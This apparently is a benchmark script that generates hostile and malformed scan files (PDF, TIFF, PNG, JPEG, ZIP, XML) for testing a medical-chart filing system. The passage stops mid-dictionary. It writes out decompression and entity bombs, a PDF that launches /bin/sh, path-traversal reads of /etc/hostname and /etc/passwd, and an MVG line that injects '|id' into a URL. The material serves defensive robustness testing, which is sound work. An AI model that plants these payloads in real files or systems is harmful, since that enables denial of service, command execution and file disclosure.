#!/usr/bin/env python3
"""Write a folder of hostile and odd files, the same ones each time.

    benchmarks/hostile_files.py OUT

OUT gets `files/` (what goes into the inbox), `roster.csv` (the invented people of
the demo) and `expected.json`: for each file whose chart it shows (`owners`, MRNs
under which it may be filed) and whether it is damaged (then nothing of it may be
filed without a person). `special(inbox)` makes what cannot lie in an ordinary
folder: links, pipes, sockets, sparse files, names no sane program writes. Only
the two encrypted PDFs differ between runs: they need fresh random keys.
"""

# mypy: disable-error-code="no-redef"
from __future__ import annotations

import gzip
import io
import json
import os
import random
import re
import socket
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

REPOSITORY = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPOSITORY))

import numpy as np  # noqa: E402
import pikepdf  # noqa: E402
from pikepdf import Array, Dictionary, Name, Stream  # noqa: E402
from PIL import Image, ImageOps  # noqa: E402

from scanindex.demo import charts, paper, people  # noqa: E402
from tests.pages import make_odd_files as odd  # noqa: E402

MARK = "hx_"
"""Every file name holds it, so that a name in a log is found."""
DAMAGE_WORDS = ("cut", "zero_block", "damaged", "garbage", "bomb", "broken", "beyond", "loop", "huge_header")
DPI = 150
Made = dict[str, bytes]
Expected = dict[str, Any]

CAST = people.make(7)
ANN, BOB, *_ = CAST.plain
OWNED: dict[str, tuple[str, bool]] = {}
"""File name to the MRN whose chart it shows, and whether it is damaged."""
MAKERS: dict[str, Callable[[], bytes]] = {}


def _file(
    name: str, owner: people.Person | None = None, *, damaged: bool = False
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        MAKERS[name] = make
        OWNED[name] = (owner.mrn if owner else "", damaged)
        return make

    return register


# --- charts that would be filed if they were whole ---------------------------------------------
@cache
def chart(person: people.Person = ANN, dpi: int = DPI) -> Image.Image:
    return paper.draw(charts.lab_report(person).pages[0], dpi)


@cache
def bits(dpi: int = 200) -> Image.Image:
    return chart(ANN, dpi).point(lambda v: 255 if v > 128 else 0).convert("1", dither=Image.Dither.NONE)


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.copy().save(out, kind, **options)
    return out.getvalue()


def image_pdf(image: Image.Image, dpi: int = DPI, **page_entries: Any) -> pikepdf.Pdf:
    """One page that is one JPEG, in its own size."""
    box = [0, 0, round(image.width * 72 / dpi, 2), round(image.height * 72 / dpi, 2)]
    entries = {**odd.GREY8, **odd.DCT, "/Width": image.width, "/Height": image.height}
    content = f"q {box[2]} 0 0 {box[3]} 0 0 cm /Im0 Do Q".encode()
    more = {"/MediaBox": Array(box), **{f"/{key}": value for key, value in page_entries.items()}}
    return odd.one_image(saved(image, "JPEG", quality=85), entries, content, more)


def _append(pdf: pikepdf.Pdf, other: pikepdf.Pdf) -> None:
    """The other's pages, carried over while it is still alive."""
    with pikepdf.open(io.BytesIO(odd.written(other))) as kept:
        pdf.pages.extend(kept.pages)


WHOLE: dict[str, Callable[[], bytes]] = {
    "chart.pdf": lambda: odd.written(image_pdf(chart())),
    "chart_text.pdf": lambda: paper.write_pdf(list(charts.lab_report(ANN).pages)),
    "chart_g4.tif": lambda: saved(bits(), "TIFF", compression="group4", dpi=(200, 200)),
    "chart_lzw.tif": lambda: saved(chart(), "TIFF", compression="tiff_lzw", dpi=(DPI, DPI)),
    "chart_jpeg.tif": lambda: saved(chart(), "TIFF", compression="jpeg", quality=85, dpi=(DPI, DPI)),
    "chart.jpg": lambda: saved(chart(), "JPEG", quality=85, dpi=(DPI, DPI)),
    "chart_progressive.jpg": lambda: saved(chart(), "JPEG", quality=85, progressive=True, dpi=(DPI, DPI)),
    "chart.png": lambda: saved(chart(), "PNG", dpi=(DPI, DPI)),
    "chart.bmp": lambda: saved(chart(), "BMP", dpi=(DPI, DPI)),
    "chart.gif": lambda: saved(chart(), "GIF"),
    "chart.webp": lambda: saved(chart(), "WEBP", quality=85, method=0),
    "chart.jp2": lambda: saved(chart(), "JPEG2000", quality_mode="rates", quality_layers=[12]),
}
"""Controls: whole, in each format. Each is also cut and given a hole."""
WHOLE = {name: cache(make) for name, make in WHOLE.items()}


def _cut(name: str, share: float) -> Callable[[], bytes]:
    def make() -> bytes:
        data = WHOLE[name]()
        return data[: int(len(data) * share)]

    return make


def _holed(name: str) -> Callable[[], bytes]:
    """A lost sector: 512 zeros past the middle, where the picture is."""

    def make() -> bytes:
        data = WHOLE[name]()
        return odd.damaged(data, len(data) * 6 // 10, 512)

    return make


def _flipped(name: str, seed: int) -> Callable[[], bytes]:
    """Twelve bits turned at random places; may or may not hurt."""

    def make() -> bytes:
        rng, data = random.Random(f"{name}{seed}"), bytearray(WHOLE[name]())
        for _ in range(12):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        return bytes(data)

    return make


for _name, _make in WHOLE.items():
    _file(_name, ANN)(_make)
    _stem, _end = _name.rsplit(".", 1)
    for _share in (0.4, 0.95):
        _file(f"{_stem}_cut_{int(_share * 100)}.{_end}", ANN, damaged=True)(_cut(_name, _share))
    # A hole in raw pixels is a white or black bar that no reader can tell from ink.
    _is_checked = _name != "chart.bmp"
    _file(f"{_stem}_zero_block.{_end}", ANN, damaged=_is_checked)(_holed(_name))
    for _seed in range(2):
        _file(f"{_stem}_flipped_{_seed}.{_end}", ANN)(_flipped(_name, _seed))


# --- PDF: who is it ----------------------------------------------------------------------------
def _typed(person: people.Person, mode: int) -> bytes:
    lines = (
        f"Patient Name: {person.last_first}",
        f"MRN: {person.mrn}",
        f"Date of Birth: {person.born:%m/%d/%Y}",
    )
    return odd.FULL_PAGE + b"\n" + odd.text_operators(lines, mode=mode, top=300)


@_file("image_of_one_hidden_text_of_another.pdf", ANN)
def _() -> bytes:
    pdf = image_pdf(chart())
    pdf.pages[0].obj.Contents = pdf.make_stream(_typed(BOB, 3))
    return odd.written(pdf)


@_file("image_of_one_typed_text_of_another.pdf")
def _() -> bytes:
    """Both are visible: nobody can say whose page it is."""
    pdf = image_pdf(chart())
    pdf.pages[0].obj.Contents = pdf.make_stream(_typed(BOB, 0))
    return odd.written(pdf)


@_file("metadata_names_another.pdf", ANN)
def _() -> bytes:
    pdf = image_pdf(chart())
    pdf.docinfo["/Title"] = f"{BOB.last_first} MRN {BOB.mrn}"
    return odd.written(pdf)


@_file(f"named_for_{BOB.last}_{BOB.mrn}.pdf", ANN)
def _() -> bytes:
    """The name of a file is no evidence."""
    pdf = image_pdf(chart())
    pdf.docinfo["/Title"] = "scan"
    return odd.written(pdf)


@_file("two_people.pdf")
def _() -> bytes:
    pdf = image_pdf(chart(ANN))
    _append(pdf, image_pdf(chart(BOB)))
    return odd.written(pdf)


OWNED["two_people.pdf"] = (f"{ANN.mrn} {BOB.mrn}", False)


@_file("layer_switched_off.pdf")
def _() -> bytes:
    """The name stands in a layer that is not shown."""
    pdf = image_pdf(odd.letter(), 100)
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=pikepdf.String("hidden")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    page = pdf.pages[0].obj
    page.Resources.Properties = Dictionary(L0=layer)
    page.Contents = pdf.make_stream(odd.FULL_PAGE + b"\n/OC /L0 BDC " + _typed(ANN, 0) + b" EMC")
    return odd.written(pdf)


# --- PDF: shapes -------------------------------------------------------------------------------
def _turned(degrees: int) -> Callable[[], bytes]:
    return lambda: odd.written(image_pdf(chart().rotate(degrees, expand=True), Rotate=degrees))


for _degrees in (90, 180, 270):
    _file(f"rotate_{_degrees}.pdf", ANN)(_turned(_degrees))


@_file("pages_of_many_sizes.pdf", ANN)
def _() -> bytes:
    pdf = image_pdf(chart())
    for size in ((200, 100), (3000, 300), (1700, 1100)):
        _append(pdf, image_pdf(Image.new("L", size, 255)))
    _append(pdf, image_pdf(chart(), UserUnit=2))
    return odd.written(pdf)


@_file("landscape.pdf", ANN)
def _() -> bytes:
    wide = Image.new("L", (1650, 1275), 255)
    wide.paste(chart().crop((0, 0, 1275, 1275)), (150, 0))
    return odd.written(image_pdf(wide))


@_file("negative_media_box.pdf")
def _() -> bytes:
    return odd.text_page(odd.text_operators(), page_entries={"/MediaBox": Array([612, 792, 0, 0])})


@_file("media_box_a_billion.pdf")
def _() -> bytes:
    return odd.text_page(odd.text_operators(), page_entries={"/MediaBox": Array([0, 0, 10**9, 10**9])})


@_file("media_box_thin.pdf")
def _() -> bytes:
    return odd.text_page(odd.text_operators(), page_entries={"/MediaBox": Array([0, 0, 100_000, 1])})


@_file("media_box_nonsense.pdf")
def _() -> bytes:
    return odd.text_page(
        odd.text_operators(), page_entries={"/MediaBox": Array([Name.A, 0, pikepdf.String("x"), 5])}
    )


@_file("user_unit_huge.pdf")
def _() -> bytes:
    return odd.text_page(odd.text_operators(), page_entries={"/UserUnit": 1_000_000})


# --- PDF: bombs --------------------------------------------------------------------------------
def _with_forms(contents: list[bytes], page_content: bytes = b"/F0 Do") -> bytes:
    """Form i may draw F0 .. Fn; the page draws `page_content`."""
    pdf = pikepdf.Pdf.new()
    forms = []
    for content in contents:
        form = Stream(pdf, content)
        form.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 612, 792])})
        forms.append(pdf.make_indirect(form))
    resources = pdf.make_indirect(Dictionary(XObject=Dictionary({f"/F{i}": f for i, f in enumerate(forms)})))
    for form in forms:
        form.Resources = resources
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 612, 792]),
        Resources=resources,
        Contents=pdf.make_stream(page_content),
    )
    pdf.pages.append(pikepdf.Page(page))
    return odd.written(pdf)


@_file("form_draws_itself.pdf")
def _() -> bytes:
    return _with_forms([b"/F0 Do 10 10 50 50 re f"])


@_file("forms_draw_each_other.pdf")
def _() -> bytes:
    return _with_forms([b"/F1 Do", b"/F0 Do 10 10 50 50 re f"])


@_file("forms_ten_to_the_twelfth.pdf")
def _() -> bytes:
    """A billion laughs: each form draws the next one ten times."""
    return _with_forms([f"/F{i + 1} Do ".encode() * 10 for i in range(12)] + [b"10 10 50 50 re f"])


@_file("tiling_finest.pdf")
def _() -> bytes:
    pdf = pikepdf.Pdf.new()
    cell = Stream(pdf, b"0 0 .001 .001 re f")
    cell.update(
        {
            "/Type": Name.Pattern,
            "/PatternType": 1,
            "/PaintType": 1,
            "/TilingType": 1,
            "/BBox": Array([0, 0, 0.001, 0.001]),
            "/XStep": 0.001,
            "/YStep": 0.001,
            "/Resources": Dictionary(),
        }
    )
    page = odd.add_page(pdf, odd.image_stream(pdf, odd.jpeg(odd.letter()), {**odd.GREY8, **odd.DCT}), b"")
    page.Resources.Pattern = Dictionary(P0=pdf.make_indirect(cell))
    page.Contents = pdf.make_stream(b"/Pattern cs /P0 scn 0 0 612 792 re f")
    return odd.written(pdf)


@_file("shading_slow.pdf")
def _() -> bytes:
    """A function-based shading whose PostScript function is ten thousand steps long."""
    pdf = pikepdf.Pdf.new()
    function = Stream(pdf, b"{ " + b"dup sin exch cos add " * 10_000 + b" exch pop }")
    function.update({"/FunctionType": 4, "/Domain": Array([0, 1, 0, 1]), "/Range": Array([0, 1])})
    shading = Dictionary(
        ShadingType=1,
        ColorSpace=Name.DeviceGray,
        Function=pdf.make_indirect(function),
        Matrix=Array([612, 0, 0, 792, 0, 0]),
    )
    page = odd.add_page(
        pdf, odd.image_stream(pdf, odd.jpeg(odd.letter()), {**odd.GREY8, **odd.DCT}), b"/S0 sh"
    )
    page.Resources.Shading = Dictionary(S0=shading)
    return odd.written(pdf)


def _content_bomb(piece: bytes, megabytes: int) -> bytes:
    pdf = odd.grey_jpeg_pdf()
    packed = zlib.compress(piece * ((megabytes << 20) // len(piece)), 9)
    pdf.pages[0].obj.Contents = Stream(pdf, packed, Dictionary(Filter=Name.FlateDecode))
    return odd.written(pdf)


@_file("content_of_strokes.pdf")
def _() -> bytes:
    return _content_bomb(b"0 0 m 612 792 l S ", 60)


@_file("content_of_saves.pdf")
def _() -> bytes:
    return _content_bomb(b"q ", 60)


@_file("content_of_images.pdf")
def _() -> bytes:
    return _content_bomb(odd.FULL_PAGE + b" ", 2)


@_file("content_in_a_hundred_thousand_pieces.pdf")
def _() -> bytes:
    pdf = odd.grey_jpeg_pdf()
    piece = pdf.make_stream(odd.FULL_PAGE)
    pdf.pages[0].obj.Contents = Array([piece] * 100_000)
    return odd.written(pdf)


@_file("filters_thirty_deep.pdf")
def _() -> bytes:
    data = odd.grey_bytes()
    for _ in range(30):
        data = zlib.compress(data)
    filters = {"/Filter": Array([Name.FlateDecode] * 30)}
    return odd.written(odd.one_image(data, {**odd.GREY8, **filters}))


@_file("filters_bomb_in_bomb.pdf")
def _() -> bytes:
    data = zlib.compress(zlib.compress(bytes(1 << 30), 9), 9)
    filters = {"/Filter": Array([Name.FlateDecode] * 2), "/Width": 32768, "/Height": 32768}
    return odd.written(odd.one_image(data, {**odd.GREY8, **filters}))


@_file("run_length_bomb.pdf")
def _() -> bytes:
    entries = {**odd.GREY8, "/Filter": Name.RunLengthDecode, "/Width": 20_000, "/Height": 20_000}
    return odd.written(odd.one_image(b"\x81\xff" * (20_000 * 20_000 // 128) + b"\x80", entries))


@_file("objects_three_hundred_thousand.pdf")
def _() -> bytes:
    bodies = {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
    bodies |= {3: odd._LEAF, 9: odd._DOT}
    return odd.raw_pdf(bodies | {number: "<< /A [0 0 0] >>" for number in range(10, 300_000)})


def _one_leaf(extra: str, catalog: str = "") -> bytes:
    return odd.raw_pdf(
        {
            1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: odd._LEAF.replace(">>", f"{extra} >>"),
            9: odd._DOT,
        }
    )


@_file("arrays_nested_deep.pdf")
def _() -> bytes:
    return _one_leaf("/X " + "[" * 200_000 + "]" * 200_000)


@_file("page_tree_twenty_thousand_deep.pdf")
def _() -> bytes:
    depth = 20_000
    objects = {1: "<< /Type /Catalog /Pages 20 0 R >>", 9: odd._DOT}
    for level in range(depth):
        parent = f"/Parent {19 + level} 0 R " if level else ""
        objects[20 + level] = f"<< /Type /Pages {parent}/Kids [{21 + level} 0 R] /Count 1 >>"
    objects[20 + depth] = odd._LEAF.replace("2 0 R", f"{19 + depth} 0 R", 1)
    return odd.raw_pdf(objects)


@_file("pages_five_thousand.pdf")
def _() -> bytes:
    kids = " ".join(f"{100 + i} 0 R" for i in range(5000))
    objects = {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: f"<< /Type /Pages /Kids [{kids}] /Count 5000 >>"}
    return odd.raw_pdf(objects | {9: odd._DOT} | {100 + i: odd._LEAF for i in range(5000)})


@_file("pages_promised_two_thousand_million.pdf")
def _() -> bytes:
    return odd.MAKERS["pdf_count_lies.pdf"]().replace(b"/Count 50", b"/Count 2000000000")


@_file("annotations_fifty_thousand.pdf")
def _() -> bytes:
    link = "<< /Type /Annot /Subtype /Square /Rect [0 0 50 50] >>"
    return _one_leaf(f"/Annots [{(link + ' ') * 50_000}]")


@_file("parent_loop.pdf")
def _() -> bytes:
    return odd.raw_pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
            3: odd._LEAF.replace("/MediaBox [0 0 612 792] ", ""),
            9: odd._DOT,
        }
    )


@_file("xref_previous_is_itself.pdf")
def _() -> bytes:
    data = odd.pages_pdf(1)
    at = int(data[data.rindex(b"startxref") + 9 : data.rindex(b"%%EOF")])
    return re.sub(rb"trailer\s*<<", b"trailer << /Prev %d" % at, data)


@_file("length_refers_to_itself.pdf")
def _() -> bytes:
    return odd.raw_pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: odd._LEAF,
            9: "<< /Length 9 0 R >>\nstream\n100 100 200 200 re f\n\nendstream",
        }
    )


@_file("type_3_font_draws_itself.pdf")
def _() -> bytes:
    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type3,
            FontBBox=Array([0, 0, 1000, 1000]),
            FontMatrix=Array([0.001, 0, 0, 0.001, 0, 0]),
            Encoding=Dictionary(Differences=Array([97, Name.a])),
            FirstChar=97,
            LastChar=97,
            Widths=Array([1000]),
        )
    )
    font.CharProcs = Dictionary(a=pdf.make_stream(b"1000 0 d0 BT /F0 500 Tf (aaaaaaaaaa) Tj ET"))
    font.Resources = Dictionary(Font=Dictionary(F0=font))
    image = odd.image_stream(pdf, odd.jpeg(odd.letter()), {**odd.GREY8, **odd.DCT})
    odd.add_page(pdf, image, b"BT /F0 50 Tf 100 100 Td (aaaa) Tj ET", font=font)
    return odd.written(pdf)


def _jpx_header(width: int, height: int) -> bytes:
    """A codestream whose size marker promises much and whose data end there (ISO/IEC 15444-1 A.5.1)."""
    data = bytearray(saved(odd.letter(), "JPEG2000", no_jp2=True))
    at = data.index(b"\xff\x51") + 6
    struct.pack_into(">IIIIIIII", data, at, width, height, 0, 0, width, height, 0, 0)
    return bytes(data)


@_file("jpx_bomb.pdf", damaged=True)
def _() -> bytes:
    return odd.written(odd.one_image(_jpx_header(60_000, 60_000), {**odd.GREY8, "/Filter": Name.JPXDecode}))


@_file("jpx_lies_about_size.pdf", damaged=True)
def _() -> bytes:
    return odd.written(odd.one_image(_jpx_header(9_000, 9_000), {**odd.GREY8, "/Filter": Name.JPXDecode}))


@_file("jbig2_bomb.pdf", damaged=True)
def _() -> bytes:
    data = bytearray(odd.jbig2_page())
    struct.pack_into(">II", data, 11, 2**31 - 1, 2**31 - 1)
    entries = {"/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 1, "/Filter": Name.JBIG2Decode}
    return odd.written(odd.one_image(bytes(data), entries))


@_file("jbig2_garbage.pdf", damaged=True)
def _() -> bytes:
    entries = {"/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 1, "/Filter": Name.JBIG2Decode}
    return odd.written(odd.one_image(random.Random(5).randbytes(3000), entries))


@_file("ccitt_columns_lie.pdf", damaged=True)
def _() -> bytes:
    entries = odd.g4_entries()
    entries["/DecodeParms"] = Dictionary(K=-1, Columns=2**31 - 1, Rows=2**31 - 1)
    return odd.written(odd.one_image(odd.g4_strips(odd.HEIGHT)[0], entries))


# --- PDF: active and enclosing things ----------------------------------------------------------
@_file("launches_a_program.pdf")
def _() -> bytes:
    return _one_leaf("", "/OpenAction << /S /Launch /F (/bin/sh) >>")


@_file("submits_a_form.pdf")
def _() -> bytes:
    return _one_leaf("", "/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")


@_file("opens_another_file.pdf")
def _() -> bytes:
    return _one_leaf("", "/OpenAction << /S /GoToR /F (../../../../etc/hostname) >>")


@_file("image_is_an_external_file.pdf", damaged=True)
def _() -> bytes:
    """The picture's data are to come from another file (ISO 32000-2 7.3.8.2)."""
    return odd.written(odd.one_image(b"", {**odd.GREY8, "/F": pikepdf.String("/etc/hostname")}))


@_file("program_attached.pdf")
def _() -> bytes:
    pdf = odd.grey_jpeg_pdf()
    pdf.attachments["run.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(500))  # type: ignore[call-arg]
    return odd.written(pdf)


# --- two in one --------------------------------------------------------------------------------
@_file("jpeg_then_pdf.jpg", damaged=True)
def _() -> bytes:
    return WHOLE["chart.jpg"]() + odd.pages_pdf(2)


@_file("jpeg_then_jpeg.jpg", damaged=True)
def _() -> bytes:
    return WHOLE["chart.jpg"]() + saved(chart(BOB), "JPEG", quality=85)


@_file("png_then_png.png", damaged=True)
def _() -> bytes:
    return WHOLE["chart.png"]() + saved(chart(BOB), "PNG")


@_file("tiff_then_tiff.tif", damaged=True)
def _() -> bytes:
    return WHOLE["chart_g4.tif"]() + saved(bits(100), "TIFF", compression="group4")


@_file("gif_then_gif.gif", damaged=True)
def _() -> bytes:
    return WHOLE["chart.gif"]() + saved(chart(BOB), "GIF")


@_file("pdf_then_jpeg.pdf", damaged=True)
def _() -> bytes:
    return WHOLE["chart.pdf"]() + saved(chart(BOB), "JPEG", quality=85)


@_file("pdf_glued_charts.pdf", damaged=True)
def _() -> bytes:
    return odd.written(image_pdf(chart(BOB))) + WHOLE["chart.pdf"]()


@_file("polyglot_jpeg_with_pdf_in_its_comment.jpg", damaged=True)
def _() -> bytes:
    """Valid as either: readers of PDF find the header in the first kilobyte."""
    data, inner = WHOLE["chart.jpg"](), odd.raw_pdf({1: "<< /Type /Catalog >>"})[:600]
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(inner) + 2) + inner + data[2:] + odd.pages_pdf(1)


@_file("polyglot_pdf_and_zip.pdf", ANN)
def _() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(zipfile.ZipInfo("a.txt"), "text")
    return out.getvalue()[:40] + b"\n" + WHOLE["chart.pdf"]()


@_file("behind_an_http_header.pdf", ANN)
def _() -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + WHOLE["chart.pdf"]()


@_file("behind_four_kilobytes.pdf", ANN)
def _() -> bytes:
    return b"junk" * 1024 + WHOLE["chart.pdf"]()


# --- pictures ----------------------------------------------------------------------------------
def _tiny_page(width: int = 8, height: int = 8) -> tuple[dict[int, Any], tuple[bytes, ...]]:
    sides = {256: (4, (width,)), 257: (4, (height,)), 278: (4, (height,))}
    return {**odd.tags(8, 1, 1), **sides}, (bytes([255]) * (64),)


@_file("tiff_three_thousand_pages.tif")
def _() -> bytes:
    return odd.tiff([_tiny_page()] * 3000)


@_file("tiff_five_hundred_tiny_pages.tif")
def _() -> bytes:
    return odd.tiff([_tiny_page()] * 100)


@_file("tiff_loop_of_charts.tif", damaged=True)
def _() -> bytes:
    page = ({**odd.tags(1, 4, 0)}, odd.g4_strips(odd.HEIGHT))
    return odd.tiff([page] * 3, loop=True)


@_file("tiff_no_strips.tif", damaged=True)
def _() -> bytes:
    return odd.tiff([(odd.tags(1, 4, 0), ())])


@_file("tiff_samples_65535.tif", damaged=True)
def _() -> bytes:
    return odd.tiff([({**odd.tags(8, 1, 1), 277: (3, (65535,))}, (odd.grey_bytes(),))])


@_file("tiff_deflate_bomb.tif", damaged=True)
def _() -> bytes:
    side = 19_000
    sides = {256: (4, (side,)), 257: (4, (side,)), 278: (4, (side,))}
    return odd.tiff([({**odd.tags(8, 8, 1), **sides}, (zlib.compress(bytes(side * side), 9),))])


@_file("tiff_rgb_deflate_bomb.tif", damaged=True)
def _() -> bytes:
    side = 14_000
    sides = {256: (4, (side,)), 257: (4, (side,)), 278: (4, (side,)), 277: (3, (3,))}
    tags = {**odd.tags(8, 8, 2), **sides, 258: (3, (8, 8, 8))}
    return odd.tiff([(tags, (zlib.compress(bytes(side * side * 3), 9),))])


@_file("tiff_white_first_page_big.tif")
def _() -> bytes:
    """A strip count of a million in a directory of a small file."""
    return odd.tiff([({**odd.tags(8, 1, 1, rows=1), 257: (4, (2**31,))}, (odd.grey_bytes(),))])


@_file("gif_without_end.gif", damaged=True)
def _() -> bytes:
    data = saved(odd.letter(), "GIF", save_all=True, append_images=[odd.letter().rotate(180)] * 3)
    return data[:-1]


@_file("gif_a_thousand_frames.gif")
def _() -> bytes:
    frames = [Image.new("L", (40, 40), i % 256) for i in range(2500)]
    return saved(frames[0], "GIF", save_all=True, append_images=frames[1:])


@_file("gif_huge_screen.gif")
def _() -> bytes:
    data = bytearray(saved(odd.letter(), "GIF"))
    struct.pack_into("<HH", data, 6, 65535, 65535)
    return bytes(data)


@_file("webp_bomb.webp")
def _() -> bytes:
    return saved(Image.new("L", (16_383, 16_383), 255), "WEBP", lossless=True, quality=0, method=0)


@_file("jp2_bomb.j2k", damaged=True)
def _() -> bytes:
    return _jpx_header(60_000, 60_000)


@_file("bmp_huge_header.bmp", damaged=True)
def _() -> bytes:
    data = bytearray(saved(odd.letter(), "BMP"))
    struct.pack_into("<ii", data, 18, 2**31 - 1, 2**31 - 1)
    return bytes(data)


@_file("bmp_top_down.bmp")
def _() -> bytes:
    data = bytearray(saved(odd.letter(), "BMP"))
    struct.pack_into("<i", data, 22, -odd.HEIGHT)
    return bytes(data)


@_file("png_text_bomb.png", ANN)
def _() -> bytes:
    data = WHOLE["chart.png"]()
    return data[:33] + odd._png_chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(200 << 20), 9)) + data[33:]


@_file("png_profile_bomb.png", ANN)
def _() -> bytes:
    data = WHOLE["chart.png"]()
    return data[:33] + odd._png_chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(200 << 20), 9)) + data[33:]


@_file("png_animated.png")
def _() -> bytes:
    frames = [odd.letter(), odd.letter().rotate(180)]
    return saved(frames[0], "PNG", save_all=True, append_images=frames[1:])


@_file("one_pixel.png")
def _() -> bytes:
    return saved(Image.new("L", (1, 1), 0), "PNG")


@_file("one_pixel.tif")
def _() -> bytes:
    return saved(Image.new("1", (1, 1), 1), "TIFF", compression="group4")


@_file("one_pixel_high.png")
def _() -> bytes:
    return saved(Image.new("L", (20_000, 1), 255), "PNG")


@_file("thin_strip.jpg")
def _() -> bytes:
    return saved(Image.new("L", (20, 20_000), 128), "JPEG")


@_file("square_of_20000.jpg", ANN)
def _() -> bytes:
    big = Image.new("L", (20_000, 20_000), 255)
    big.paste(chart(), (3000, 3000))
    return saved(big, "JPEG", quality=50)


@_file("square_of_20000_bits.tif", ANN)
def _() -> bytes:
    big = Image.new("1", (20_000, 20_000), 1)
    big.paste(bits(), (3000, 3000))
    return saved(big, "TIFF", compression="group4", dpi=(2400, 2400))


@_file("noise_of_6000.png")
def _() -> bytes:
    noise = np.random.default_rng(1).integers(0, 2, (6000, 6000), np.uint8) * 255
    return saved(Image.fromarray(noise).convert("1"), "PNG")


@_file("letters_everywhere.png", ANN)
def _() -> bytes:
    """Five thousand lines of tiny text: the longest read there is."""
    cell = chart(ANN, 72).crop((40, 40, 560, 500))
    page = Image.new("L", (5200, 6900), 255)
    for left in range(0, 5200, 520):
        for top in range(0, 6900, 460):
            page.paste(cell, (left, top))
    return saved(page, "PNG", dpi=(600, 600))


@_file("dots_2400_dpi.tif", ANN)
def _() -> bytes:
    wide = chart(ANN, 300).resize((10_200, 13_200))
    return saved(wide.convert("1"), "TIFF", compression="group4", dpi=(2400, 2400))


@_file("dots_72_dpi.jpg", ANN)
def _() -> bytes:
    return saved(chart(ANN, 72), "JPEG", quality=90, dpi=(72, 72))


@_file("dots_lie.jpg", ANN)
def _() -> bytes:
    return saved(chart(), "JPEG", quality=90, dpi=(1, 65_535))


@_file("white_on_black.tif", ANN)
def _() -> bytes:
    return saved(ImageOps.invert(chart()), "TIFF", compression="tiff_lzw", dpi=(DPI, DPI))


@_file("mirrored.jpg", ANN)
def _() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 2
    return saved(ImageOps.mirror(chart()), "JPEG", quality=90, dpi=(DPI, DPI), exif=exif)


@_file("mirrored_untold.jpg", ANN)
def _() -> bytes:
    return saved(ImageOps.mirror(chart()), "JPEG", quality=90, dpi=(DPI, DPI))


@_file("all_black.png")
def _() -> bytes:
    return saved(Image.new("L", (1700, 2200), 0), "PNG")


@_file("exif_garbage.jpg", ANN)
def _() -> bytes:
    return saved(
        chart(), "JPEG", quality=90, dpi=(DPI, DPI), exif=b"Exif\0\0II*\0" + random.Random(3).randbytes(500)
    )


# --- no scans at all ---------------------------------------------------------------------------
def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in entries.items():
            packed.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


_LAUGHS = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(12))
FOREIGN: dict[str, Callable[[], bytes]] = {
    "paths.tif": lambda: b"/etc/hostname\n/etc/passwd\n",
    "paths.txt": lambda: b"/etc/hostname\n",
    "script.eps": lambda: (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n(x) (w) file pop showpage\n%%EOF\n"
    ),
    "script.ps": lambda: b"%!PS\n{ } loop\n",
    "script_named.pdf": lambda: b"%!PS-Adobe-3.0\nshowpage\n%%EOF\n",
    "drawing.svg": lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/hostname"/></svg>'
    ),
    "drawing.mvg": lambda: (
        b"push graphic-context\nfill 'url(https://192.0.2.1/x.jpg|id)'\npop graphic-context\n"
    ),
    "letter.docx": lambda: _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
    "many.zip": lambda: _zip({"a.pdf": WHOLE["chart.pdf"]()}),
    "bomb.zip": lambda: _zip({"zeros": bytes(300 << 20)}),
    "page.html": lambda: b"<!doctype html><script>alert(1)</script>",
    "laughs.xml": lambda: (
        f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{_LAUGHS}]><l>&l12;</l>'.encode()
    ),
    "program.exe": lambda: b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(500),
    "program.elf": lambda: b"\x7fELF" + bytes(500),
    "packed.pdf.gz": lambda: gzip.compress(WHOLE["chart.pdf"](), mtime=0),
    "film.mp4": lambda: b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + bytes(2000),
